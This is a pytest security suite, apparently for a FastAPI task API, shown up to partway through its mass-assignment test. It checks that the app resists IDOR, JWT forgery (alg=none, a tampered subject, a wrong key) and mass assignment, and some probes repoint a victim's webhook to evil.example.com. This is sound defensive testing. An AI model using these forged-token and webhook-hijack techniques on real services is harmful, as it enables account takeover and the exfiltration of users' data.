"""Attack suite (issue 7): IDOR on every id-taking input, JWT forgery on every authenticated
route, mass assignment on every write, hostile strings in every text input.

Endpoints are derived from the app itself (`app.routes` and its OpenAPI document), so a new
endpoint that takes an id, or a new authenticated route, that this suite does not exercise makes
it fail. The counts land in `reports/attack_suite.txt` and on stdout (`pytest -s`); under
pytest-xdist each worker writes those of the tests it ran (`reports/attack_suite.gw0.txt`, ...).
"""

from __future__ import annotations

import base64
import json
import os
import re
import time
import uuid
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx
import jwt
import pytest
from fastapi import FastAPI
from fastapi.routing import APIRoute, iter_route_contexts
from sqlalchemy import text
from sqlalchemy.ext.asyncio import AsyncSession

from taskapi.kit.security import new_personal_token
from tests.conftest import ROOT, TEST_SECRET, UserHandle

API = "/api/v1"
TASKS = f"{API}/tasks"
PUBLIC_ROUTES = {
    ("POST", f"{API}/auth/register"),
    ("POST", f"{API}/auth/login"),
    ("POST", f"{API}/auth/token"),
    ("POST", f"{API}/auth/refresh"),
}
WORKER = os.environ.get("PYTEST_XDIST_WORKER")
REPORT = Path(ROOT) / "reports" / (f"attack_suite.{WORKER}.txt" if WORKER else "attack_suite.txt")
TABLES = ("users", "refresh_tokens", "tasks", "notifications", "attachments", "jobs")
# A name that carries an id: path parameters always; in the query or the body by its name.
ID_NAME = re.compile(r"(^|_)ids?$|^assignee$")
NO_SUCH_ID = 2**62

COUNTS: Counter[str] = Counter()


@pytest.fixture(scope="module", autouse=True)
def attack_report() -> Iterator[None]:
    """Write the module's counts for the closing note, whatever the outcome."""
    yield
    lines = [
        "attack suite (tests/fuzz/test_attack_suite.py)",
        f"IDOR probes: {COUNTS['idor_probes']} (leaks or changes: {COUNTS['idor_leaks']})",
        f"id inputs covered: {COUNTS['id_inputs_covered']} of {COUNTS['id_inputs']}",
        f"forged tokens tried: {COUNTS['forged_tried']} on {COUNTS['auth_routes']} routes "
        f"(accepted: {COUNTS['forged_accepted']})",
        f"mass-assignment writes: {COUNTS['mass_writes']} (fields taken: {COUNTS['mass_taken']})",
        f"hostile inputs: {COUNTS['hostile_tried']} (5xx: {COUNTS['hostile_5xx']})",
    ]
    report = "\n".join(lines) + "\n"
    print("\n" + report)
    REPORT.parent.mkdir(parents=True, exist_ok=True)
    REPORT.write_text(report)


# --- route discovery -----------------------------------------------------------------------------


def api_routes(app: FastAPI) -> list[tuple[str, str]]:
    """(method, path template) of every API route of `app.routes`, included routers flattened."""
    routes = []
    for context in iter_route_contexts(app.routes):
        if isinstance(context.original_route, APIRoute):
            for method in sorted(set(context.methods or ()) - {"HEAD", "OPTIONS"}):
                routes.append((method, context.path_format))
    return routes


def test_route_inventory_matches_the_openapi_document(app: FastAPI):
    """The IDOR inventory reads the OpenAPI document: it must list every route the app serves."""
    documented = {
        (method.upper(), path)
        for path, operations in app.openapi()["paths"].items()
        for method in operations
    }
    served = set(api_routes(app))
    assert served == documented
    assert len(authenticated_routes(app)) >= 25
    assert served >= PUBLIC_ROUTES


def authenticated_routes(app: FastAPI) -> list[tuple[str, str]]:
    """Every /api/v1 route except the four that hand out tokens (not /ops, not the docs)."""
    return [
        (method, path)
        for method, path in api_routes(app)
        if path.startswith(API + "/") and (method, path) not in PUBLIC_ROUTES
    ]


def _property_names(schema: dict[str, Any], components: dict[str, Any], prefix: str = "") -> set:
    if "$ref" in schema:
        schema = components[schema["$ref"].rsplit("/", 1)[1]]
    names: set[str] = set()
    for variant in schema.get("anyOf", []) + schema.get("allOf", []) + schema.get("oneOf", []):
        names |= _property_names(variant, components, prefix)
    for name, sub in schema.get("properties", {}).items():
        names.add(prefix + name)
        names |= _property_names(sub, components, f"{prefix}{name}.")
    if isinstance(schema.get("items"), dict):  # an array of objects: its items' fields too
        names |= _property_names(schema["items"], components, prefix)
    return names


def id_inputs(app: FastAPI) -> set[tuple[str, str, str, str]]:
    """(method, path, where, name) of every input that takes an id, from the OpenAPI document,
    on the authenticated routes (the public ones act on nobody's resources: `client_id` of the
    OAuth2 form is a client name, not an object id)."""
    schema = app.openapi()
    components = schema.get("components", {}).get("schemas", {})
    shared_params = schema.get("components", {}).get("parameters", {})
    found: set[tuple[str, str, str, str]] = set()
    for path, operations in schema["paths"].items():
        for method, operation in operations.items():
            key = (method.upper(), path)
            if key in PUBLIC_ROUTES:
                continue
            for param in operation.get("parameters", []):
                if "$ref" in param:
                    param = shared_params[param["$ref"].rsplit("/", 1)[1]]
                if param["in"] == "path" or (
                    param["in"] == "query" and ID_NAME.search(param["name"])
                ):
                    found.add((*key, param["in"], param["name"]))
            for content in operation.get("requestBody", {}).get("content", {}).values():
                for name in _property_names(content["schema"], components):
                    if ID_NAME.search(name.rsplit(".", 1)[-1]):
                        found.add((*key, "body", name))
    return found


# --- helpers -----------------------------------------------------------------------------------


def b64url(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def claims_of(token: str) -> dict[str, Any]:
    payload: dict[str, Any] = jwt.decode(token, options={"verify_signature": False})
    return payload


def without_request_id(body: dict[str, Any]) -> dict[str, Any]:
    return {k: v for k, v in body.items() if k != "request_id"}


def is_problem(response: httpx.Response, status: int) -> bool:
    return (
        response.status_code == status
        and response.headers.get("content-type", "").startswith("application/problem+json")
        and response.json().get("request_id") == response.headers.get("x-request-id")
    )


async def table_digest(db: AsyncSession) -> dict[str, str]:
    """A fingerprint of every row of every table: any write anywhere changes it."""
    digest = {}
    for table in TABLES:
        query = f"SELECT count(*), md5(string_agg(t::text, '|' ORDER BY t.id)) FROM {table} t"
        row = await db.execute(text(query))
        count, md5 = row.one()
        digest[table] = f"{count}:{md5}"
    return digest


async def rows_of(
    db: AsyncSession, table: str, where: str, order: str = "t.id", **params: Any
) -> list[Any]:
    result = await db.execute(
        text(f"SELECT to_jsonb(t) FROM {table} t WHERE {where} ORDER BY {order}"),
        params,
    )
    return [row[0] for row in result]


TEXT_FILE = ("notes.txt", b"top secret file body\n", "text/plain")


@dataclass
class World:
    """alice (victim) owns tasks, a file and notifications; bob (attacker) owns one task;
    carol is alice's collaborator (assignee of alice's task, owner of a task assigned to her)."""

    alice: UserHandle
    bob: UserHandle
    carol: UserHandle
    secret: str
    task: dict[str, Any]  # alice's, assigned to carol, with a file
    plain_task: dict[str, Any]  # alice's, unassigned
    bob_task: dict[str, Any]
    file_id: int
    notification_id: int  # alice's
    project_id: int  # alice's, carol a member, holding one task of alice's
    project_task: dict[str, Any]
    webhook_id: int  # alice's, with one delivery (a ping)
    delivery_id: int
    bob_webhook_id: int
    token_id: int  # alice's personal access token
    revoked_pat: str  # a personal access token of alice's, revoked
    extra: dict[str, Any] = field(default_factory=dict)

    def path_values(self) -> dict[str, Any]:
        return {
            "task_id": self.task["id"],
            "file_id": self.file_id,
            "notification_id": self.notification_id,
            "tag": "secret-tag",
            "project_id": self.project_id,
            "user_id": self.carol.id,
            "webhook_id": self.webhook_id,
            "delivery_id": self.delivery_id,
            "token_id": self.token_id,
        }


@pytest.fixture
async def world(client: httpx.AsyncClient, make_user, make_task) -> World:
    alice, bob, carol = await make_user(), await make_user(), await make_user()
    secret = f"SECRET{uuid.uuid4().hex}"
    task = await make_task(
        alice,
        title=f"{secret} title",
        description=f"{secret} description",
        tags=["secret-tag"],
        assignee_id=carol.id,
    )
    plain = await make_task(alice, title=f"{secret} plain")
    bob_task = await make_task(bob, title="bob's own")
    upload = await client.post(
        f"{TASKS}/{task['id']}/files", files={"file": TEXT_FILE}, headers=alice.headers
    )
    assert upload.status_code == 201, upload.text
    await make_task(carol, title=f"{secret} from carol", assignee_id=alice.id)
    notes = (await client.get(f"{API}/notifications", headers=alice.headers)).json()["items"]
    assert len(notes) == 1
    project = await client.post(
        f"{API}/projects", json={"name": f"{secret} project"}, headers=alice.headers
    )
    assert project.status_code == 201, project.text
    project_id = project.json()["id"]
    shared = await client.put(
        f"{API}/projects/{project_id}/members/{carol.id}",
        json={"role": "editor"},
        headers=alice.headers,
    )
    assert shared.status_code == 200, shared.text
    project_task = await make_task(
        alice, title=f"{secret} project task", project_id=project_id, assignee_id=carol.id
    )
    webhooks = []
    for owner in (alice, bob):
        made = await client.post(
            f"{API}/webhooks",
            json={"url": f"https://hooks.example.com/{owner.id}", "events": ["*"]},
            headers=owner.headers,
        )
        assert made.status_code == 201, made.text
        webhooks.append(made.json()["id"])
    ping = await client.post(f"{API}/webhooks/{webhooks[0]}/ping", headers=alice.headers)
    assert ping.status_code == 202, ping.text
    pats = []
    for name in ("kept", "revoked"):
        made = await client.post(
            f"{API}/tokens",
            json={"name": name, "scopes": ["tasks:read", "tasks:write"]},
            headers=alice.headers,
        )
        assert made.status_code == 201, made.text
        pats.append(made.json())
    revoked = await client.delete(f"{API}/tokens/{pats[1]['id']}", headers=alice.headers)
    assert revoked.status_code == 204, revoked.text
    return World(
        alice=alice,
        bob=bob,
        carol=carol,
        secret=secret,
        task=(await client.get(f"{TASKS}/{task['id']}", headers=alice.headers)).json(),
        plain_task=plain,
        bob_task=bob_task,
        file_id=upload.json()["id"],
        notification_id=notes[0]["id"],
        project_id=project_id,
        project_task=project_task,
        webhook_id=webhooks[0],
        delivery_id=ping.json()["delivery_id"],
        bob_webhook_id=webhooks[1],
        token_id=pats[0]["id"],
        revoked_pat=pats[1]["token"],
    )


async def victim_state(
    client: httpx.AsyncClient, db: AsyncSession, w: World, *, with_carol: bool = True
) -> dict[str, Any]:
    """What alice (and carol) have, in the database and as alice reads it through the API."""
    ids = [w.alice.id, w.carol.id] if with_carol else [w.alice.id]
    state: dict[str, Any] = {
        "users": await rows_of(db, "users", "id = ANY(:ids)", ids=ids),
        "logins": await rows_of(db, "refresh_tokens", "user_id = ANY(:ids)", ids=ids),
        "tasks": await rows_of(db, "tasks", "owner_id = ANY(:ids)", ids=ids),
        "notifications": await rows_of(db, "notifications", "user_id = ANY(:ids)", ids=ids),
        "files": await rows_of(
            db,
            "attachments",
            "task_id IN (SELECT id FROM tasks WHERE owner_id = ANY(:ids))",
            ids=ids,
        ),
        "projects": await rows_of(db, "projects", "id = :p", p=w.project_id),
        "members": await rows_of(
            db, "project_members", "project_id = :p", order="t.user_id", p=w.project_id
        ),
        "webhooks": await rows_of(db, "webhooks", "owner_id = ANY(:ids)", ids=ids),
        "tokens": await rows_of(db, "personal_access_tokens", "user_id = ANY(:ids)", ids=ids),
        "deliveries": await rows_of(
            db,
            "webhook_deliveries",
            "webhook_id IN (SELECT id FROM webhooks WHERE owner_id = ANY(:ids))",
            ids=ids,
        ),
    }
    h = w.alice.headers
    state["api_task"] = (await client.get(f"{TASKS}/{w.task['id']}", headers=h)).json()
    state["api_files"] = (await client.get(f"{TASKS}/{w.task['id']}/files", headers=h)).json()
    state["api_bytes"] = (await client.get(f"{API}/files/{w.file_id}", headers=h)).content
    state["api_notes"] = (await client.get(f"{API}/notifications", headers=h)).json()
    state["api_project"] = (await client.get(f"{API}/projects/{w.project_id}", headers=h)).json()
    return state


# --- 1. IDOR -----------------------------------------------------------------------------------


@dataclass
class Probe:
    method: str
    route: str  # the path template, as in app.routes
    covers: tuple[tuple[str, str], ...]  # (where, name) of the id inputs it drives
    expect: str  # "404:<code>", "bulk", "batch", "list" or "create"
    json: Any = None
    params: dict[str, Any] | None = None
    files: dict[str, Any] | None = None
    path: dict[str, Any] = field(default_factory=dict)
    ghost_json: Any = None  # "batch": the same body naming ids that do not exist


def batch_probe_body(w: World, task_id: int, plain_id: int, project_id: int) -> dict[str, Any]:
    """Bob's batch naming alice's tasks and project (or ids nobody has, for the ghost)."""
    take_over = {"title": "pwned", "assignee_id": w.bob.id, "project_id": None}
    return {
        "operations": [
            {"op": "update", "task_id": task_id, "changes": take_over},
            {"op": "transition", "task_id": plain_id, "status": "done"},
            {"op": "delete", "task_id": plain_id},
            {
                "op": "create",
                "temp_id": "mine",
                "task": {"title": "in", "project_id": project_id, "assignee_id": w.carol.id},
            },
            {"op": "update", "task_id": w.bob_task["id"], "changes": {"project_id": project_id}},
            {"op": "delete", "temp_id": "mine"},  # its create failed: nothing to name
        ]
    }


BATCH_PROBE_CODES = [
    "task_not_found",
    "task_not_found",
    "task_not_found",
    "project_not_found",
    "project_not_found",
    "temp_id_not_found",
]


def idor_probes(w: World) -> list[Probe]:
    a_task, a_plain, bob = w.task["id"], w.plain_task["id"], w.bob.id
    take_over = {"title": "pwned", "assignee_id": bob, "priority": "urgent"}
    t = "/api/v1/tasks/{task_id}"
    path_only: tuple[tuple[str, str], ...] = (("path", "task_id"),)
    with_assignee = (("path", "task_id"), ("body", "assignee_id"))
    nf = "404:task_not_found"
    p = "/api/v1/projects/{project_id}"
    project_only: tuple[tuple[str, str], ...] = (("path", "project_id"),)
    with_member = (("path", "project_id"), ("path", "user_id"))
    wh = "/api/v1/webhooks/{webhook_id}"
    wnf = "404:webhook_not_found"
    evil = "https://evil.example.com/in"
    return [
        Probe("GET", t, path_only, nf),
        Probe("PATCH", t, with_assignee, nf, json=take_over),
        Probe("PUT", t, with_assignee, nf, json=take_over),
        Probe("DELETE", t, path_only, nf),
        Probe("DELETE", t + "/force", path_only, nf),
        Probe("POST", t + "/restore", path_only, nf),
        Probe("POST", t + "/transition", path_only, nf, json={"status": "done"}),
        Probe("POST", t + "/assign", with_assignee, nf, json={"assignee_id": bob}),
        Probe("POST", t + "/assign", with_assignee, nf, json={"assignee_id": None}),
        Probe("POST", t + "/tags", path_only, nf, json=["pwned"]),
        Probe("DELETE", t + "/tags/{tag}", (*path_only, ("path", "tag")), nf),
        Probe("POST", t + "/files", path_only, nf, files={"file": TEXT_FILE}),
        Probe("GET", t + "/files", path_only, nf),
        # A task's history is the task's: a 404 for whoever cannot see the task now.
        Probe("GET", t + "/activity", path_only, nf),
        Probe("GET", t + "/activity", path_only, nf, params={"limit": 100}),
        Probe("GET", "/api/v1/files/{file_id}", (("path", "file_id"),), "404:file_not_found"),
        Probe(
            "GET",
            "/api/v1/files/{file_id}",
            (("path", "file_id"),),
            "404:file_not_found",
            params={"redirect": "true"},
        ),
        Probe("DELETE", "/api/v1/files/{file_id}", (("path", "file_id"),), "404:file_not_found"),
        Probe(
            "POST",
            "/api/v1/notifications/{notification_id}/read",
            (("path", "notification_id"),),
            "404:notification_not_found",
        ),
        Probe("GET", TASKS, (("query", "assignee"),), "list", params={"assignee": w.alice.id}),
        Probe("GET", TASKS, (("query", "assignee"),), "list", params={"assignee": w.carol.id}),
        Probe(
            "GET",
            TASKS,
            (("query", "assignee"),),
            "list",
            params={"assignee": w.carol.id, "search": w.secret, "scope": "all"},
        ),
        Probe(
            "PATCH",
            TASKS + "/bulk",
            (("body", "task_ids"), ("body", "updates.assignee_id")),
            "bulk",
            json={"task_ids": [a_task, a_plain, w.bob_task["id"]], "updates": take_over},
        ),
        Probe(
            "POST",
            TASKS + "/bulk-status",
            (("body", "task_ids"),),
            "bulk",
            json={"task_ids": [a_task, a_plain, w.bob_task["id"]], "target_status": "done"},
        ),
        # Alice's project: every path and every body or query naming it is a 404 for bob.
        *(
            Probe(method, p + suffix, covers, "404:project_not_found", json=body)
            for method, suffix, covers, body in (
                ("GET", "", project_only, None),
                ("PATCH", "", project_only, {"name": "pwned", "archived": True}),
                ("DELETE", "", project_only, None),
                ("GET", "/members", project_only, None),
                ("PUT", "/members/{user_id}", with_member, {"role": "viewer"}),
                ("DELETE", "/members/{user_id}", with_member, None),
            )
        ),
        Probe(
            "PUT",
            p + "/members/{user_id}",
            with_member,
            "404:project_not_found",
            json={"role": "admin"},
            path={"user_id": bob},
        ),
        Probe(
            "POST",
            TASKS,
            (("body", "project_id"),),
            "404:project_not_found",
            json={"title": "into alice's project", "project_id": w.project_id},
        ),
        Probe(
            "PATCH",
            t,
            (("body", "project_id"),),
            "404:project_not_found",
            json={"project_id": w.project_id},
            path={"task_id": w.bob_task["id"]},  # bob's own: only the body names alice's
        ),
        Probe(
            "PATCH",
            t,
            (("path", "task_id"),),
            "404:task_not_found",
            json={"project_id": None},
            path={"task_id": w.project_task["id"]},
        ),
        Probe(
            "GET",
            TASKS,
            (("query", "project_id"),),
            "404:project_not_found",
            params={"project_id": w.project_id},
        ),
        Probe(
            "GET",
            TASKS + "/stats",
            (("query", "project_id"),),
            "404:project_not_found",
            params={"project_id": w.project_id},
        ),
        Probe(
            "PATCH",
            TASKS + "/bulk",
            (("body", "updates.project_id"),),
            "bulk:project_not_found",
            json={
                "task_ids": [a_task, a_plain, w.bob_task["id"]],
                "updates": {"project_id": w.project_id},
            },
        ),
        # Alice's webhook, by any of its paths; her delivery through bob's own webhook.
        *(
            Probe(method, wh + suffix, (("path", "webhook_id"),), wnf, json=body)
            for method, suffix, body in (
                ("GET", "", None),
                ("PATCH", "", {"url": evil, "active": True}),
                ("DELETE", "", None),
                ("POST", "/rotate-secret", None),
                ("POST", "/ping", None),
                ("GET", "/deliveries", None),
                ("POST", "/deliveries/{delivery_id}/redeliver", None),
            )
        ),
        Probe(
            "POST",
            wh + "/deliveries/{delivery_id}/redeliver",
            (("path", "delivery_id"),),
            "404:delivery_not_found",
            path={"webhook_id": w.bob_webhook_id},
        ),
        Probe(
            "POST",
            "/api/v1/webhooks",
            (("body", "project_id"),),
            "404:project_not_found",
            json={
                "url": "https://evil.example.com/in",
                "events": ["*"],
                "project_id": w.project_id,
            },
        ),
        Probe(
            "DELETE", "/api/v1/tokens/{token_id}", (("path", "token_id"),), "404:token_not_found"
        ),
        # Every id a batch operation takes, alice's in one batch: each fails as a missing one.
        Probe(
            "POST",
            TASKS + "/batch",
            tuple(
                ("body", f"operations.{name}")
                for name in (
                    "task_id",
                    "temp_id",
                    "task.project_id",
                    "task.assignee_id",
                    "changes.project_id",
                    "changes.assignee_id",
                )
            ),
            "batch",
            json=batch_probe_body(w, a_task, a_plain, w.project_id),
            ghost_json=batch_probe_body(w, NO_SUCH_ID, NO_SUCH_ID - 1, NO_SUCH_ID),
        ),
        # Naming alice as the assignee of bob's own new task is allowed (that is what assignment
        # is); it must give bob nothing of alice's and change nothing alice already has.
        Probe(
            "POST",
            TASKS,
            (("body", "assignee_id"),),
            "create",
            json={"title": "for alice", "assignee_id": w.alice.id},
        ),
    ]


def visible_to_bob(item: dict[str, Any], w: World) -> bool:
    return w.bob.id in (item["owner_id"], item["assignee_id"])


async def test_idor_every_id_input_answers_404_and_changes_nothing(
    client: httpx.AsyncClient, db_session: AsyncSession, app: FastAPI, world: World
):
    w = world
    baseline = await victim_state(client, db_session, w)
    covered: set[tuple[str, str, str, str]] = set()
    leaks: list[str] = []
    for probe in idor_probes(w):
        COUNTS["idor_probes"] += 1
        url = probe.route.format(**{**w.path_values(), **probe.path})
        kwargs: dict[str, Any] = {"params": probe.params, "headers": w.bob.headers}
        if probe.files is not None:
            kwargs["files"] = probe.files
        elif probe.json is not None:
            kwargs["json"] = probe.json
        response = await client.request(probe.method, url, **kwargs)
        label = f"{probe.method} {url} {probe.params or ''}"
        problems: list[str] = []
        if w.secret in response.text:
            problems.append("response mentions alice's secret")
        if probe.expect.startswith("404:"):
            code = probe.expect.split(":", 1)[1]
            if not is_problem(response, 404) or response.json()["code"] != code:
                problems.append(f"expected 404 {code}, got {response.status_code}")
            else:
                # Indistinguishable from an id that does not exist at all.
                ghost = probe.route.format(
                    **{
                        k: NO_SUCH_ID if ("path", k) in probe.covers and k != "tag" else v
                        for k, v in {**w.path_values(), **probe.path}.items()
                    }
                )
                missing = await client.request(probe.method, ghost, **kwargs)
                if without_request_id(missing.json()) != without_request_id(response.json()):
                    problems.append("a foreign id answers differently from a missing one")
        elif probe.expect.startswith("bulk"):
            # "bulk:<code>": bob's own task fails too, with that code (alice's project is a 404)
            own_error = probe.expect.partition(":")[2]
            results = {r["task_id"]: r for r in response.json()["results"]}
            for foreign in (w.task["id"], w.plain_task["id"]):
                if results[foreign] != {
                    "task_id": foreign,
                    "success": False,
                    "error": "task_not_found",
                }:
                    problems.append(f"bulk item {foreign}: {results[foreign]}")
            own = results[w.bob_task["id"]]
            if own_error and own.get("error") != own_error:
                problems.append(f"bob's own task: {own}")
            elif not own_error and not own["success"]:
                problems.append("bob's own task failed in the same bulk")
        elif probe.expect == "batch":
            results = response.json().get("results", []) if response.status_code == 200 else []
            errors = [without_request_id(r.get("error", {})) for r in results]
            if [e.get("code") for e in errors] != BATCH_PROBE_CODES:
                problems.append(f"batch: {response.status_code} {response.text[:300]}")
            ghost = await client.post(url, json=probe.ghost_json, headers=w.bob.headers)
            ghost_errors = [without_request_id(r["error"]) for r in ghost.json()["results"]]
            if ghost_errors != errors:
                problems.append("a foreign id answers differently from a missing one")
        elif probe.expect == "list":
            items = response.json()["items"] if response.status_code == 200 else None
            if items is None or not all(visible_to_bob(item, w) for item in items):
                problems.append(f"list shows foreign tasks: {response.text[:300]}")
        elif probe.expect == "create":
            created = response.json()
            if response.status_code != 201 or created["owner_id"] != w.bob.id:
                problems.append(f"create: {response.status_code} {response.text[:200]}")
            else:
                # The one legitimate change: alice is told of the assignment.
                notes = await rows_of(db_session, "notifications", "task_id = :t", t=created["id"])
                assert [(n["user_id"], n["kind"]) for n in notes] == [(w.alice.id, "task_assigned")]
                await db_session.execute(
                    text("DELETE FROM notifications WHERE task_id = :t"), {"t": created["id"]}
                )
        after = await victim_state(client, db_session, w)
        for key, value in baseline.items():
            if after[key] != value:
                problems.append(f"alice's/carol's {key} changed")
        if problems:
            COUNTS["idor_leaks"] += 1
            leaks.append(f"{label}: {'; '.join(problems)}")
        covered |= {(probe.method, probe.route, where, name) for where, name in probe.covers}
    # Bob still sees nothing of alice's, and alice's task is exactly as it was.
    bob_list = (await client.get(TASKS, headers=w.bob.headers)).json()["items"]
    assert all(visible_to_bob(item, w) for item in bob_list)
    assert leaks == []
    inputs = id_inputs(app)
    COUNTS["id_inputs"] = len(inputs)
    COUNTS["id_inputs_covered"] = len(inputs & covered)
    assert inputs - covered == set(), "id inputs no IDOR probe drives; add a Probe for them"


# --- 2. JWT forgery ----------------------------------------------------------------------------


def forge(payload: dict[str, Any], *, key: str = TEST_SECRET, algorithm: str = "HS256") -> str:
    return jwt.encode(payload, key, algorithm=algorithm)


def route_request(method: str, path: str, w: World) -> dict[str, Any]:
    """A request that would do something real on `path` if the token were accepted."""
    url = path.format(**w.path_values())
    bodies: dict[tuple[str, str], Any] = {
        ("POST", f"{API}/auth/logout"): {"refresh_token": w.alice.refresh_token},
        ("PATCH", f"{API}/users/me"): {"full_name": "forged", "email": "forged@example.com"},
        ("POST", TASKS): {"title": "forged", "assignee_id": w.alice.id},
        ("PATCH", TASKS + "/bulk"): {"task_ids": [w.task["id"]], "updates": {"title": "forged"}},
        ("POST", TASKS + "/bulk-status"): {"task_ids": [w.task["id"]], "target_status": "done"},
        ("POST", TASKS + "/batch"): {
            "operations": [
                {"op": "create", "task": {"title": "forged"}},
                {"op": "delete", "task_id": w.task["id"]},
            ]
        },
        ("PATCH", TASKS + "/{task_id}"): {"title": "forged"},
        ("PUT", TASKS + "/{task_id}"): {"title": "forged"},
        ("POST", TASKS + "/{task_id}/transition"): {"status": "done"},
        ("POST", TASKS + "/{task_id}/assign"): {"assignee_id": None},
        ("POST", TASKS + "/{task_id}/tags"): ["forged"],
    }
    kwargs: dict[str, Any] = {"method": method, "url": url}
    if path == TASKS + "/{task_id}/files" and method == "POST":
        kwargs["files"] = {"file": TEXT_FILE}
    elif (method, path) in bodies:
        kwargs["json"] = bodies[(method, path)]
    elif method in ("POST", "PUT", "PATCH"):
        kwargs["json"] = {}
    if path == f"{API}/users":
        kwargs["params"] = {"search": w.alice.username[:3]}
    return kwargs


async def forged_tokens(client: httpx.AsyncClient, make_user, w: World) -> dict[str, str | None]:
    """name -> Authorization header value (None: no header at all)."""
    now = int(time.time())
    real = claims_of(w.alice.access_token)
    good = {**real, "iat": now, "exp": now + 600, "jti": uuid.uuid4().hex}
    header_none = b64url(json.dumps({"alg": "none", "typ": "JWT"}).encode())
    alg_none = f"{header_none}.{b64url(json.dumps(good).encode())}."
    # Bob's genuine token with alice's id in `sub`: the signature no longer matches.
    head, _payload, signature = w.bob.access_token.split(".")
    bob_claims = claims_of(w.bob.access_token)
    tampered_payload = b64url(json.dumps({**bob_claims, "sub": str(w.alice.id)}).encode())
    tampered = f"{head}.{tampered_payload}.{signature}"
    ghost = await make_user()
    deleted = await client.delete(f"{API}/users/me", headers=ghost.headers)
    assert deleted.status_code == 204
    leaver = await make_user()
    logout = await client.post(
        f"{API}/auth/logout",
        json={"refresh_token": leaver.refresh_token},
        headers=leaver.headers,
    )
    assert logout.status_code == 204
    tokens: dict[str, str | None] = {
        "no token": None,
        "garbage": "not.a.jwt",
        "empty bearer": "",
        "alg=none": alg_none,
        "wrong key": forge(good, key="another-secret-key-that-is-long-enough-0123456789"),
        "HS512 with the right key": forge(good, algorithm="HS512"),
        "expired": forge({**good, "iat": now - 7200, "exp": now - 3600}),
        "refresh as access": w.alice.refresh_token,
        "tampered sub": tampered,
        "deleted user": ghost.access_token,
        "logged-out login": leaver.access_token,
        "revoked personal token": w.revoked_pat,
        "unknown personal token": new_personal_token(),
        "look-alike personal token": "tap_" + "A" * 38,
    }
    return {
        name: None if token is None else f"Bearer {token}".rstrip()
        for name, token in tokens.items()
    } | {"basic scheme": "Basic " + base64.b64encode(b"alice:password").decode()}


@pytest.mark.filterwarnings("ignore::jwt.warnings.InsecureKeyLengthWarning")
async def test_forged_tokens_are_refused_on_every_authenticated_route(
    client: httpx.AsyncClient, db_session: AsyncSession, app: FastAPI, make_user, world: World
):
    w = world
    routes = authenticated_routes(app)
    tokens = await forged_tokens(client, make_user, w)
    victim_before = await victim_state(client, db_session, w)
    before = await table_digest(db_session)
    accepted: list[str] = []
    tried = 0
    for method, path in routes:
        for name, authorization in tokens.items():
            kwargs = route_request(method, path, w)
            headers = {} if authorization is None else {"Authorization": authorization}
            response = await client.request(**kwargs, headers=headers)
            tried += 1
            ok = (
                is_problem(response, 401)
                and response.headers.get("www-authenticate", "").startswith("Bearer")
                and response.json()["code"]
                in ("not_authenticated", "invalid_token", "token_expired")
            )
            if not ok:
                accepted.append(f"{name} on {method} {path}: {response.status_code}")
    COUNTS["forged_tried"] += tried
    COUNTS["forged_accepted"] += len(accepted)
    COUNTS["auth_routes"] = len(routes)
    print(f"\nforged tokens tried: {tried}, accepted: {len(accepted)}")
    assert accepted == []
    assert tried == len(routes) * len(tokens)
    assert await table_digest(db_session) == before
    assert await victim_state(client, db_session, w) == victim_before


# --- 3. mass assignment -------------------------------------------------------------------------

LONG_AGO = "2000-01-01T00:00:00Z"


def extras(victim_id: int) -> dict[str, Any]:
    """Server-owned fields a client might try to set; ids point at the victim."""
    return {
        "id": NO_SUCH_ID,
        "owner_id": victim_id,
        "user_id": victim_id,
        "uploader_id": victim_id,
        "task_id": NO_SUCH_ID,
        "version": 999,
        "created_at": LONG_AGO,
        "updated_at": LONG_AGO,
        "completed_at": LONG_AGO,
        "attachment_count": 42,
        "password_hash": "$argon2id$v=19$m=8,t=1,p=1$c2FsdHNhbHQ$forged",
        "read": False,
        "read_at": None,
        "is_admin": True,
        "is_overdue": True,
        "search_vector": "'pwned':1",
        "size": 1,
        "sha256": "0" * 64,
    }


def recent(timestamp: str) -> bool:
    return not timestamp.startswith("2000-")


async def test_mass_assignment_changes_nothing_on_any_write(
    client: httpx.AsyncClient, db_session: AsyncSession, world: World
):
    w = world
    bob, x = w.bob, extras(w.alice.id)
    # (carol is bob's assignee and notifier below: only alice must stay untouched)
    victim_before = await victim_state(client, db_session, w, with_carol=False)
    taken: list[str] = []

    def check(ok: bool, what: str) -> None:
        COUNTS["mass_writes"] += 1
        if not ok:
            COUNTS["mass_taken"] += 1
            taken.append(what)

    # register
    name = f"mass_{uuid.uuid4().hex[:8]}"
    body = {**x, "username": name, "email": f"{name}@example.com", "password": "long enough pw"}
    registered = await client.post(f"{API}/auth/register", json=body)
    assert registered.status_code == 201, registered.text
    [row] = await rows_of(db_session, "users", "lower(username) = :n", n=name)
    check(
        row["id"] != NO_SUCH_ID
        and row["password_hash"].startswith("$argon2id$")
        and row["password_hash"] != x["password_hash"]
        and recent(row["created_at"])
        and set(registered.json()) == {"id", "username", "email", "full_name", "created_at"},
        "register",
    )
    login = await client.post(
        f"{API}/auth/login", json={"username": name, "password": "long enough pw"}
    )
    check(login.status_code == 200, "register: the real password works")

    # users PATCH
    [before] = await rows_of(db_session, "users", "id = :i", i=bob.id)
    patched = await client.patch(
        f"{API}/users/me", json={**x, "full_name": "Bob B"}, headers=bob.headers
    )
    [after] = await rows_of(db_session, "users", "id = :i", i=bob.id)
    check(
        patched.status_code == 200
        and after["full_name"] == "Bob B"
        and {k: after[k] for k in ("id", "username", "email", "password_hash", "created_at")}
        == {k: before[k] for k in ("id", "username", "email", "password_hash", "created_at")},
        "PATCH /users/me",
    )

    async def task_row(task_id: int) -> dict[str, Any]:
        [task] = await rows_of(db_session, "tasks", "id = :i", i=task_id)
        files = await rows_of(db_session, "attachments", "task_id = :i", i=task_id)
        task["_files"] = len(files)
        return task

    def sane(task: dict[str, Any], *, version: int, created_at: str, label: str) -> None:
        check(
            task["owner_id"] == bob.id
            and task["id"] != NO_SUCH_ID
            and task["version"] == version
            and task["created_at"] == created_at
            and recent(task["updated_at"])
            and task["attachment_count"] == task["_files"]
            and (task["completed_at"] is None) == (task["status"] != "done")
            and (task["completed_at"] is None or recent(task["completed_at"])),
            f"{label}: {task}",
        )

    # task create
    created = await client.post(TASKS, json={**x, "title": "mass"}, headers=bob.headers)
    assert created.status_code == 201, created.text
    tid = created.json()["id"]
    row = await task_row(tid)
    sane(row, version=1, created_at=row["created_at"], label="POST /tasks")
